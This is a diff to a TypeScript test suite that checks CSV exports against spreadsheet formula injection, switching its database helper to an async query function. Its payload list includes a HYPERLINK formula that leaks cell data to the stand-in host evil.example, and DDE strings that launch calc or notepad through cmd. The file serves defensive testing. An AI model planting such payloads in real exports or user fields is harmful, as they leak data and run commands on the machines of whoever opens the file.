@@ -11,7 +11,7 @@ import { isValidEmail } from '../../src/platform/input/email.ts';
 import { csvStream } from '../../src/features/exports/csv.server.ts';
 import { get } from '../helpers/http.ts';
 import { afterPost, type App, startApp, submit } from './support.ts';
-import { rawSqlite } from '../../src/platform/db.server.ts';
+import { sqlRows } from '../helpers/db.ts';
 
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', "-2+3+cmd|' /C notepad'!A0", '\tTAB=1+1', '\rCR=1+1', '＝1+1'];
 const DEPARTMENT = '=1+2';
@@ -30,8 +30,8 @@ beforeAll(async () => {
   app = await startApp({
     users,
     // Stored as given (createUser trims names; data from SSO claims or older versions may not be trimmed).
-    prepare: (db, ids) => {
-      for (const [i, name] of PAYLOADS.entries()) rawSqlite(db).prepare('update users set display_name = ? where id = ?').run(name, ids[`victim${i}`]);
+    prepare: async (db, ids) => {
+      for (const [i, name] of PAYLOADS.entries()) await sqlRows(db, 'update users set display_name = ? where id = ?', name, ids[`victim${i}`]);
     },
   });
 });
@@ -115,7 +115,7 @@ describe('CSV formula injection', () => {
       role: 'learner',
     });
     expect(created.status).toBe(400);
-    const stored = rawSqlite(app.db).prepare("select count(*) n from users where email glob '[=+@-]*'").get() as { n: number };
-    expect(stored.n).toBe(0);
+    const stored = await sqlRows<{ email: string }>(app.db, 'select email from users');
+    expect(stored.filter((row) => /^[=+@-]/.test(row.email))).toEqual([]);
   });
 });
